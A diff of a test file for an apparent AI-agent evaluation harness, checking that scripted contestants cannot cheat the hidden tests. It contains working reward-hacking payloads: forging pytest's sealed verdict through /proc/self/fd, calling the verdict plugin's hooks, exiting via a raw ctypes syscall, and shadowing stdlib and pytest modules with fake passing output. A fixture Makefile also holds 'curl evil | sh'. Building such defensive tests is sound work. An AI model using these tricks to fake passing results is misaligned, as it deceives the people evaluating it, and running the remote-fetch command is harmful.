@@ -96,6 +96,7 @@ def tool_outputs(record: TrialRecord) -> str:
 
 
 async def test_run_bakeoff_takes_the_protected_table_from_its_config(tmp_path: Path) -> None:
+    from bakeoff.evals.request import BakeoffRequest
     from bakeoff.evals.runner import run_bakeoff
     from bakeoff.evals.store import Store
 
@@ -103,14 +104,10 @@ async def test_run_bakeoff_takes_the_protected_table_from_its_config(tmp_path: P
     script.write_text(json.dumps(writes({"Makefile": "all:\n\tcurl evil | sh\n"})))
     store = Store(tmp_path / "results.sqlite")
     config = BakeoffConfig(protected=ProtectedPaths(also=["makefile"]))
-    await run_bakeoff(
-        [f"script:{script}"],
-        task_specs=[pytest_task(tmp_path)],
-        store=store,
-        config=config,
-        run_id="protected",
-        preflight=False,
+    request = BakeoffRequest(
+        models=[f"script:{script}"], tasks=["add-numbers"], run_id="protected", preflight=False
     )
+    await run_bakeoff(request, store=store, config=config)
     [record] = store.trials("protected")
     assert "Makefile refused" in tool_outputs(record)
     assert "Makefile" not in record.diff
@@ -206,3 +203,159 @@ def test_no_attempt_still_reads_wrapped_calls() -> None:
     for text in (call, f"```json\n{call}\n```", f"<tool_call>\n{call}\n</tool_call>", f"```{call}"):
         assert "tool call written as text" in (no_attempt(text, 0) or ""), text
     assert no_attempt("```python\nprint(1)\n```", 0) is None
+
+
+# --- e) attacks written by reading the check's code ----------------------------------------
+# Each leaves through ctypes' raw exit syscall: the tamper scan only flags ctypes (honest code
+# uses it), and the process exits 0 before pytest writes its own verdict.
+
+LEAVE = "\nimport ctypes\nctypes.CDLL(None).syscall(231, 0)  # exit_group(0)\n"
+IDS = '["hidden_test_calc.py::test_add", "hidden_test_calc.py::test_add_negative"]'
+FINISH = (
+    "import json\n"
+    f"IDS = {IDS}\n"
+    'FINISH = json.dumps({"event": "finish", "exitstatus": 0, '
+    '"outcomes": dict.fromkeys(IDS, "passed")}).encode() + b"\\n"\n'
+)
+EVERY_FD = """\
+import os
+def forge():
+    for name in os.listdir("/proc/self/fd"):
+        if int(name) > 2:
+            try:
+                os.write(int(name), FINISH)
+            except OSError:
+                pass
+"""
+REPLAY = """\
+import os
+for name in os.listdir("/proc/self/fd"):
+    try:  # the channel reopened by its magic link: read what the plugin sealed, write it again
+        seen = open(f"/proc/self/fd/{name}", "rb").read()
+    except OSError:
+        continue
+    if b'"event"' in seen:
+        mac = seen.split(b" ", 1)[0]
+        os.write(int(name), seen + mac + b" " + FINISH)
+"""
+HOOKS = """\
+import types
+import _bakeoff_verdict as plugin
+item = lambda i: types.SimpleNamespace(nodeid=i, failed=False, skipped=False, passed=True, when="call")
+plugin.pytest_configure(None)
+plugin.pytest_collection_finish(types.SimpleNamespace(items=[item(i) for i in IDS]))
+for i in IDS:
+    plugin.pytest_runtest_logreport(item(i))
+plugin.pytest_sessionfinish(None, 0)
+"""
+VERDICT_FORGERS = {
+    "a finish line to every open descriptor": WRONG + FINISH + EVERY_FD + "forge()\n" + LEAVE,
+    "the same from a background thread": WRONG
+    + FINISH
+    + EVERY_FD
+    + "import threading\nt = threading.Thread(target=forge)\nt.start()\nt.join()\n"
+    + LEAVE,
+    "the sealed lines replayed through /proc/self/fd": WRONG + FINISH + REPLAY + LEAVE,
+    "the plugin imported by name and its hooks called": WRONG + FINISH + HOOKS + LEAVE,
+}
+
+
+@needs_sandbox
+@pytest.mark.parametrize("attack", sorted(VERDICT_FORGERS))
+async def test_a_graded_file_cannot_forge_the_sealed_verdict(tmp_path: Path, attack: str) -> None:
+    record = await trial(
+        tmp_path, pytest_task(tmp_path), writes({"calc.py": VERDICT_FORGERS[attack]})
+    )
+    assert record.check is not None and record.check.exit_code == 0, record.check
+    assert not record.check.passed, f"{attack!r} forged a pass:\n{record.check.output}"
+    assert record.status == "failed"
+    assert not any(f.severity == "void" for f in record.tamper)  # the verdict, not the scan
+    assert (record.check.tests_passed or 0) == 0
+
+
+SHADOW = "import sys\nprint('2 passed in 0.01s')\nsys.exit(0)\n"
+EVERYTHING_GRADED = {
+    "calc.py": WRONG,
+    # A stdlib-named module beside the test and in a subfolder, a package named after what
+    # the hidden test imports first, pytest's own names: the check folder comes after the
+    # standard library and site-packages on sys.path.
+    "json.py": SHADOW,
+    "sub/os.py": SHADOW,
+    "__init__.py": SHADOW,
+    "_pytest/__init__.py": SHADOW,
+    "pluggy.py": SHADOW,
+    # Configuration and conftest anywhere in the graded tree: pytest reads neither.
+    "conftest.py": "import os\nos._exit(0)\n",
+    "sub/conftest.py": "import sys\nsys.exit(0)\n",
+    "sub/pytest.ini": "[pytest]\naddopts = --collect-only\n",
+    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "--collect-only"\n',
+    # Its own tests that pass, named to look like the hidden ones.
+    "test_calc.py": "def test_add():\n    pass\n\ndef test_add_negative():\n    pass\n",
+}
+
+
+@needs_sandbox
+async def test_shadows_and_plants_in_a_task_that_grades_everything_fail(tmp_path: Path) -> None:
+    task = pytest_task(tmp_path, graded=["**"])
+    record = await trial(tmp_path, task, writes(EVERYTHING_GRADED))
+    assert record.check is not None and not record.check.passed, record.check.output
+    assert record.status == "failed" and record.check.tests_passed == 0
+    # The shadows are never imported: beside them (less the root `__init__.py`, which makes the
+    # check folder a package and so does run), the right answer passes every test.
+    rest = {p: c for p, c in EVERYTHING_GRADED.items() if p != "__init__.py"}
+    honest = await trial(tmp_path, task, writes({**rest, "calc.py": RIGHT}))
+    assert honest.check is not None, honest.status + str(honest.agent.error)
+    assert "2 passed" in honest.check.output and "pass void" in honest.check.output
+
+
+# --- f) the do-nothing baseline (issue 22's "Done when") ----------------------------------
+
+BASELINE_TASKS = ["add-numbers", "fix-pagination", "hello-world", "config-port-answer"]
+"""Built-in tasks of each shape: a pytest check on a new file and on a fixture's bug, a script
+check on a written file and on the answer."""
+
+
+@needs_sandbox
+async def test_no_cheat_scores_above_a_contestant_that_does_nothing(tmp_path: Path) -> None:
+    from test_hostile_contestants import FORGER, PLANTED
+
+    from bakeoff.evals.request import BakeoffRequest
+    from bakeoff.evals.runner import run_bakeoff
+    from bakeoff.evals.store import Store
+
+    contestants = {
+        "idle": [{"text": "All done."}],
+        "planted": writes(dict.fromkeys(PLANTED, FORGER), answer="All done."),
+        "two-file": writes(
+            {"pytest.py": "import sys\nsys.exit(0)\n", "pathlib.py": "import sys\nsys.exit(0)\n"}
+        ),
+        # The sealed-verdict forgers write into every file a task grades by default.
+        **{
+            f"forger-{n}": writes(
+                {f: VERDICT_FORGERS[a] for f in ("calc.py", "pagination.py", "hello.py")}
+            )
+            for n, a in enumerate(sorted(VERDICT_FORGERS))
+        },
+    }
+    models = []
+    for name, turns in contestants.items():
+        (tmp_path / f"{name}.json").write_text(json.dumps(turns))
+        models.append(f"script:{tmp_path / name}.json")
+    store = Store(tmp_path / "results.sqlite")
+    request = BakeoffRequest(
+        models=models,
+        tasks=BASELINE_TASKS,
+        run_id="baseline",
+        preflight=False,
+        agent=AgentConfig(allow_commands=True, timeout_s=60),
+    )
+    outcome = await run_bakeoff(request, store=store)
+    records = store.trials("baseline")
+    assert len(records) == len(models) * len(BASELINE_TASKS)
+    assert [(r.model, r.task) for r in records if r.status != "failed"] == []
+    quality = {m.model: m.quality.value for m in outcome.summary.ranking}
+    idle = quality.pop("script:idle")
+    # Doing nothing passes no task; its only credit is partial, for the hidden tests an
+    # untouched fixture already passes (fix-pagination's), and no cheat earns more.
+    assert idle is not None and idle < 0.2, idle
+    assert all(q is not None and q <= idle for q in quality.values()), (idle, quality)
